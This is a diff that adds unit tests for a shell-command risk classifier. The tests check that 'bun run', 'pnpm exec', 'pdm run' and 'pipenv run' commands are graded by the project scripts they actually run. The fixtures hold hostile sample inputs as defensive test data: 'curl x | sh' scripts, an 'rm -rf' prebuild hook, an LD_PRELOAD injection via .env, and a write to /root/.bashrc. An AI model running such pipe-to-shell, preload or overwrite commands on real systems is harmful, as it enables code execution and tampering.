@@ -90,3 +90,96 @@ def test_cmake_install_prefix_is_where_it_writes(script: str, risk: RiskLevel) -
 def test_a_global_install_writes_outside_and_a_global_script_is_unread(script: str, risk: RiskLevel) -> None:
     verdict = classify(script, contained=False, workspace=WORKSPACE)
     assert verdict.risk is risk, (script, verdict.reasons)
+
+
+@pytest.fixture
+def js_project(tmp_path: Path) -> Path:
+    (tmp_path / "package.json").write_text(
+        '{"scripts": {"build": "tsc -p .", "prebuild": "rm -rf dist", "test": "jest", "evil": "curl x | sh"}}'
+    )
+    return tmp_path
+
+
+@pytest.mark.parametrize(("script", "risk"), [
+    ("bun run test", R.WORKSPACE_WRITE),  # the package.json script, graded as npm run test
+    ("bun run --bun test", R.WORKSPACE_WRITE),
+    ("bun run build", R.DESTRUCTIVE),  # its prebuild script deletes
+    ("bun run evil", R.DESTRUCTIVE),
+    ("bun run nosuch", R.DESTRUCTIVE),  # no such script: a file or a program of that name
+    ("bun run src/x.ts", R.DESTRUCTIVE),
+    ("bun run $S", R.DESTRUCTIVE),
+    ("bun run --watch test", R.DESTRUCTIVE),
+    ("bun --cwd ../x run test", R.DESTRUCTIVE),
+    ("pnpm exec jest", R.WORKSPACE_WRITE),  # a build-and-check tool, as npx --no-install jest
+    ("pnpm exec -- eslint .", R.WORKSPACE_WRITE),
+    ("pnpm exec evil", R.DESTRUCTIVE),
+    ("pnpm exec -c jest", R.DESTRUCTIVE),
+    ("pnpm -r exec jest", R.DESTRUCTIVE),
+    ("pnpm -C ../x exec jest", R.DESTRUCTIVE),
+    ("pnpm exec jest --outputFile=/root/.bashrc", R.DESTRUCTIVE),
+])  # fmt: skip
+def test_bun_run_and_pnpm_exec_are_graded_as_what_they_run(js_project: Path, script: str, risk: RiskLevel) -> None:
+    verdict = classify(script, contained=False, workspace=js_project, recipes=ProjectRecipes(js_project))
+    assert verdict.risk is risk, (script, verdict.reasons)
+
+
+def test_bun_run_without_the_recipe_book_asks() -> None:
+    # the server grades without the project: an unsent script may be a file or program of that name
+    assert classify("bun run test", contained=False, workspace=WORKSPACE).risk is R.DESTRUCTIVE
+
+
+@pytest.fixture
+def py_project(tmp_path: Path) -> Path:
+    (tmp_path / "pyproject.toml").write_text('[project]\nname = "x"\n[tool.pdm.scripts]\nlint = "curl x"\n')
+    (tmp_path / "Pipfile").write_text('[scripts]\nserve = "python x.py"\n')
+    return tmp_path
+
+
+@pytest.mark.parametrize(("script", "risk"), [
+    ("pdm run pytest", R.WORKSPACE_WRITE),  # as poetry run pytest and uv run pytest
+    ("pdm run -s pytest -q", R.WORKSPACE_WRITE),
+    ("pipenv run pytest", R.WORKSPACE_WRITE),
+    ("pipenv run python -m pytest", R.WORKSPACE_WRITE),
+    ("pdm run lint", R.DESTRUCTIVE),  # a [tool.pdm.scripts] entry runs instead
+    ("pipenv run serve", R.DESTRUCTIVE),  # a Pipfile [scripts] entry
+    ("pdm run python x.py", R.DESTRUCTIVE),
+    ("pdm run evil", R.DESTRUCTIVE),
+    ("pdm -p ../other run pytest", R.DESTRUCTIVE),
+    ("pdm run --frobnicate pytest", R.DESTRUCTIVE),
+])  # fmt: skip
+def test_pdm_and_pipenv_run_are_graded_as_the_command_unless_the_project_defines_it(
+    py_project: Path, script: str, risk: RiskLevel
+) -> None:
+    verdict = classify(script, contained=False, workspace=py_project, recipes=ProjectRecipes(py_project))
+    assert verdict.risk is risk, (script, verdict.reasons)
+
+
+@pytest.mark.parametrize(("pyproject", "name"), [
+    ('[tool.pdm.scripts]\npre_run = "curl x"\n', "pytest"),
+    ('[tool.pdm.scripts]\npost_pytest = "curl x"\n', "pytest"),
+    ('[tool.pdm.scripts]\npytest = {shell = "curl x | sh"}\n', "pytest"),
+    ('[tool.pdm.scripts]\n_ = {env_file = "/tmp/x.env"}\n', "pytest"),
+    ("[tool.pdm.scripts\n", "pytest"),  # unreadable
+])  # fmt: skip
+def test_pdm_hooks_and_a_script_shadowing_the_program_ask(tmp_path: Path, pyproject: str, name: str) -> None:
+    (tmp_path / "pyproject.toml").write_text(pyproject)
+    verdict = classify(f"pdm run {name}", contained=False, workspace=tmp_path, recipes=ProjectRecipes(tmp_path))
+    assert verdict.risk is R.DESTRUCTIVE, verdict.reasons
+
+
+def test_pipenv_run_loads_dot_env_so_it_asks(py_project: Path) -> None:
+    (py_project / ".env").write_text("LD_PRELOAD=/tmp/x.so\n")
+    verdict = classify("pipenv run pytest", contained=False, workspace=py_project, recipes=ProjectRecipes(py_project))
+    assert verdict.risk is R.DESTRUCTIVE, verdict.reasons
+
+
+def test_the_server_grades_pdm_run_as_the_adapter_did(py_project: Path) -> None:
+    from bot.risk.recipes import GivenRecipes
+
+    for script in ("pdm run pytest", "pdm run lint"):
+        read = classify(script, contained=False, workspace=py_project, recipes=ProjectRecipes(py_project))
+        given = classify(script, contained=False, workspace=py_project, recipes=GivenRecipes(read.recipes))
+        assert given.risk is read.risk, script
+    unsent = classify("pdm run pytest", contained=False, workspace=py_project, recipes=GivenRecipes([]))
+    assert unsent.risk is R.WORKSPACE_WRITE
+    assert any(c.chosen_by for c in unsent.commands)  # no standing approval covers it
